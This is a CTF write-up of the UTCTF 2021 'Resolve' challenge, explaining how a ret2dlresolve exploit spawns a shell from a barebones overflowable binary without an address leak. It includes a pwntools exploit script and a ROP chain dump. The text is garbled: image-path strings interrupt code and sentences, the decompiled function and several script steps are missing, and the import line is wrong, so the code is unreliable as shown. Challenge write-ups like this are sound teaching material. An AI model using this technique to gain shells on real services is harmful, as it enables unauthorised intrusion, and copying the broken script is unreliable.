CTF Team at the University of British Columbia

[UTCTF 2021] Resolve

14 Mar 2021 by Kevin Zhang

We are given a very barebones binary that looks like this:

int main(void)

  char local_10 [8];
  return 0;

Now the vulnerability is a classic buffer overflow but the problem is that this is all there is in the binary. There isn’t any libc addresses in the stack or in any of the registers when we return. Since we can’t find an address leak that means we can’t just find the address of system() and create a rop chain using that. After some digging I was able to find that the attack is called a ret2dlresolve. Here is a blog with more info about that: https://ypl.coffee/dl-resolve/

Now what we could do is write a ret2dlresolve payload by hand such as the one here. No thanks. Fortunately, pwntools has a ret2dlsresolve module that will automatically generate the payloads for you. So our payload ends up being something like this:

from pwntools import *
context.binary = elf = ELF('resolve')
rop = ROP(elf)dlresolve = Ret2dlresolvePayload(elf, symbol="system", args=["/bin/sh"])

# Allows us to write to any location. We want to write to where the dlresolve payload will be

# RET gadget for stack alignment.

# The dlresolve payload

# Put it together
raw_rop = rop.chain()

p = elf.process()

# First gets() to setup the rop chain to write to the correct address
p.sendline(fit({8+context.bytes: raw_rop}))

# Second gets() to send the dlresolve payload.

The rop chain looks something like this:0x0000:         0x4011c3 pop rdi; ret
0x0008:         0x404e00 [arg0] rdi = 4214272
0x0010:         0x401044 gets(arg0)
0x0018:         0x401159 ret; #for stack alignment
0x0020:         0x4011c3 pop rdi; ret
0x0028:         0x404e50 [arg0] rdi = 4214352
0x0030:         0x401020 [plt_init] system
0x0038:         0x310 [dlresolve index]

Our overall program flow will look like main()->pop rdi->gets()->pop rdi->system()->_dl_runtime_resolve()->system(). The pop rdi’s are to setup arguments to functions later in the chain.

So just aim this at the server and ye shall receive the flag.

It’s pretty coolthat we can still call libc functionswithout the use of address leaks. This exploit will definitely be something that I keep in mind for the future. Although it was really simple for this challenge due to no PIE which probably simplified where wecould put the dlpayload. Also pwntools is anawesome tool and thank god it exists.